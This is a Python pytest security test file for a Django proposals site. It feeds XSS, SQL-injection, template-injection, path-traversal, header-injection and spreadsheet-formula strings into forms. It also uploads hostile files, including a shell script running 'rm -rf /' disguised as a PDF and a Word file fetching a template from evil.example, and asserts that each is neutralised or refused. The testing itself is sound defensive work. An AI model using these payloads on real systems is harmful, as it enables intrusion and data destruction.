"""Hostile words and files in every field that takes some: kept as text, or refused in words, never obeyed."""

import csv
import io
import zipfile
from collections.abc import Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.http import HttpResponse

from corcom.proposals.models import Approval, Correction, Document, Proposal
from corcom.record.files import LARGEST
from corcom.record.models import TrailEntry
from tests.security.walk import content_of
from tests.security.world import World

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('zq')</script>\"><img src=x onerror=alert(1)>"
INJECTION = "'; DROP TABLE people_user; -- ../../etc/passwd"
TEMPLATE = "{{ 7|add:7 }}{% debug %}{% include '/etc/passwd' %}${7*7}%(name)s{0.__class__}"
TURNED = "\u202egpj.exe\u2066\u200b"
FORMULAS = ('=HYPERLINK("x")', "+1+1", "-1+1", "@SUM(A1)")
LAW = {"on": "2026-03", "kind": "specific", "title": "An Act", "citation": "", "says": "", "reason": "why"}
PROPOSE = "/desk/states/RUR/propose/?table=laws"
TEXTS = ("title", "citation", "says", "note", "reason")


def send(world: World, form: str, **hostile: str):
    """One form of the site, filled in well but for what is said."""
    ready = {
        "propose": ("owner", PROPOSE, LAW),
        "decide": ("unit", f"/desk/proposals/{world.own.pk}/decide/", {"decision": "return", "remark": "no"}),
        "approve": (
            *("stranger", f"/approve/{world.link}/"),
            {"answer": "sent_back", "answered_by": "Head", "office": "Ministry", "remark": "no"},
        ),
        "correct": (
            *("stranger", "/correct/"),
            {"page": "/states/RUR/", "subject": "day", "reason": "wrong", "source": "gazette"},
        ),
        "account": (
            *("owner", "/desk/account/"),
            {"name": "N", "language": "en", "time_zone": "Europe/Paris", "digest": "daily"},
        ),
    }
    who, path, answers = ready[form]
    return world.clients[who].post(path, {**answers, **hostile})


FIELDS = {
    "propose": (*TEXTS, "on", "kind"),
    "decide": ("remark", "grade", "decision"),
    "approve": ("answered_by", "office", "remark", "answer"),
    "correct": ("page", "subject", "reason", "source", "contact"),
    "account": ("name", "language", "time_zone", "digest"),
}
every_form = pytest.mark.parametrize("form", FIELDS)


@pytest.fixture
def handed_in(world):
    """The proposal of Ruritania waits for the unit."""
    Proposal.objects.everything().filter(pk=world.own.pk).update(status="submitted")
    return world


def sent(world: World, form: str, words: str) -> Iterator[tuple[str, HttpResponse]]:
    """The form once for each of its fields, with these words in it; what it did is taken back each time."""
    for field in FIELDS[form]:
        with transaction.atomic():
            yield field, send(world, form, **{field: words})
            transaction.set_rollback(True)


@every_form
def test_no_words_are_obeyed_and_none_breaks_a_page(handed_in, form):
    before = _counted()
    for words in (SCRIPT, TEMPLATE, TURNED + INJECTION):
        for field, answer in sent(handed_in, form, words):
            assert answer.status_code in (200, 302, 404, 409, 422), (field, words)
            kept = form == "account" or _counted() != before
            for said in (answer.content, *(_pages(handed_in) if kept else ())):
                assert b"<script>alert" not in said
                assert b"<img src=x" not in said
                assert b"root:" not in said


@every_form
def test_what_no_database_takes_and_what_is_endless_is_refused_in_words(handed_in, form):
    before = _counted()
    for words in ("a\0b", "x" * 1_000_000):
        for field, answer in sent(handed_in, form, words):
            assert answer.status_code in (200, 404, 409, 422), (field, words[:5])
            assert _counted() == before, (field, words[:5])


def test_half_a_letter_becomes_a_mark_that_something_is_missing(world):
    body = b"&".join([*(f"{k}={v}".encode() for k, v in LAW.items() if k != "title"), b"title=A%ED%A0%80B"])
    world.clients["owner"].generic("POST", PROPOSE, body, content_type="application/x-www-form-urlencoded")
    made = Proposal.objects.everything().order_by("-pk").first()
    assert made.cells["title"].isprintable()
    assert made.cells["title"].encode()


def test_more_fields_than_any_form_has_are_refused(world):
    many = {f"field{number}": "x" for number in range(2000)}
    assert world.clients["owner"].post(PROPOSE, many).status_code == 400
    assert world.clients["owner"].post(PROPOSE, {"reason": "x" * 3_000_000}).status_code == 400


def test_what_is_written_in_braces_stays_in_braces(world):
    send(world, "propose", title=TEMPLATE)
    made = Proposal.objects.everything().order_by("-pk").first()
    page = world.clients["owner"].get(f"/desk/proposals/{made.pk}/").content.decode()
    assert "{{ 7|add:7 }}" in page
    assert "{% debug %}" in page


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_table_of_the_workspace_runs_no_formula(world, formula):
    note = {"channel": "note_verbale", "reference": formula}
    assert world.clients["unit"].post(PROPOSE, {**LAW, **note}).status_code == 302
    for who, path in (("unit", "/desk/proposals.csv"), ("owner", "/desk/proposals.csv")):
        table = list(csv.reader(io.StringIO(world.clients[who].get(path).content.decode())))
        cells = [cell for row in table for cell in row]
        assert f"'{formula}" in cells
        assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]


def _pages(world: World) -> list[bytes]:
    """Where what was written may be shown, to those who may read it."""
    paths = {
        "owner": ("/desk/", "/desk/proposals/", f"/desk/proposals/{world.own.pk}/", "/desk/states/RUR/"),
        "unit": ("/desk/corrections/", "/desk/trail/", "/desk/people/", "/desk/search/?q=alert"),
        "stranger": ("/states/RUR/", "/corrections/"),
    }
    newest = Proposal.objects.everything().order_by("-pk").values_list("pk", flat=True).first()
    said = [world.clients[who].get(path).content for who, asked in paths.items() for path in asked]
    correction = Correction.objects.everything().order_by("-pk").values_list("pk", flat=True).first()
    said.append(world.clients["unit"].get(f"/desk/corrections/{correction}/").content)
    return [*said, world.clients["owner"].get(f"/desk/proposals/{newest}/").content]


def _counted() -> tuple[object, ...]:
    kept = (Proposal, Correction, Approval)
    rows = [list(model.objects.everything().order_by("pk").values()) for model in kept]
    return (*rows, TrailEntry.objects.count())


PDF = b"%PDF-1.7\nA plain paper\n%%EOF"
MACRO = (
    "<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled'/>"
)
OUTSIDE = (
    "<Relationship Type='http://x/attachedTemplate' Target='http://evil.example/t' TargetMode='External'/>"
)


def _office(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, said in {"[Content_Types].xml": "x", "word/document.xml": "x", **parts}.items():
            made.writestr(name, said)
    return out.getvalue()


REFUSED = {
    "a script under another ending": ("x.pdf", b"#!/bin/sh\nrm -rf /"),
    "a program": ("x.exe", b"MZ"),
    "a page": ("x.html", b"<script>alert(1)</script>"),
    "a drawing that can hold scripts": ("x.svg", b"<svg onload='alert(1)'/>"),
    "nothing": ("x.pdf", b""),
    "too much": ("x.pdf", PDF + b" " * LARGEST),
    "Word with macros under another ending": ("x.docx", _office(**{"[Content_Types].xml": MACRO})),
    "Word that fetches a template": ("x.docx", _office(**{"word/_rels/settings.xml.rels": OUTSIDE})),
    "Word with an embedded object": ("x.docx", _office(**{"word/embeddings/oleObject1.bin": "x"})),
    "a page before a PDF": ("x.pdf", b"<script>alert(1)</script>" + PDF),
    "a picture that is none": ("x.png", b"GIF89a<script>"),
    "no ending": ("passwd", PDF),
    "an ending behind a NUL": ("x.exe\0.pdf.exe", PDF),
    "a package that tells too much of itself": (
        "x.docx",
        _office(**{"[Content_Types].xml": " " * 2_000_000}),
    ),
    "a package that is cut off": ("x.docx", _office()[:60]),
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_file_that_could_harm_is_refused_and_nothing_of_it_kept(world, settings, what):
    name, content = REFUSED[what]
    before, lines = sorted(settings.FILES.rglob("*")), TrailEntry.objects.count()
    answer = _attach(world, name, content)
    assert answer.status_code == 409
    assert sorted(settings.FILES.rglob("*")) == before
    assert (Document.objects.everything().count(), TrailEntry.objects.count()) == (2, lines)


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x.pdf",
        "C:\\Windows\\x.pdf",
        "a\nSet-Cookie: x=1.pdf",
        f"x{TURNED}.pdf",
        "..pdf.pdf",
    ],
)
def test_a_name_leads_nowhere_and_says_what_the_file_is(world, name):
    headers = _attached(world, name, PDF)
    said = headers["Content-Disposition"]
    assert said.startswith("attachment;")
    assert not {"/", "\\", "\r", "\n", "\u202e", "\u2066"} & set(said.replace("filename*=utf-8''", ""))
    assert ".pdf" in said
    assert "x=1" not in headers.get("Set-Cookie", "")


def test_a_file_of_two_kinds_is_only_ever_a_download_of_the_one_that_was_checked(world):
    headers = _attached(world, "x.pdf", PDF + b"<html><script>alert(1)</script></html>")
    assert headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"].startswith("attachment;")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]


def _attached(world: World, name: str, content: bytes):
    """The headers with which a file that was taken comes back."""
    assert _attach(world, name, content).status_code == 302
    kept = Document.objects.everything().order_by("-pk").first()
    answer = world.clients["owner"].get(f"/desk/documents/{kept.pk}/")
    assert content_of(answer) == content
    return answer.headers


def _attach(world: World, name: str, content: bytes):
    upload = SimpleUploadedFile("x", content)
    upload._name = name
    return world.clients["owner"].post(f"/desk/proposals/{world.own.pk}/attach/", {"document": upload})
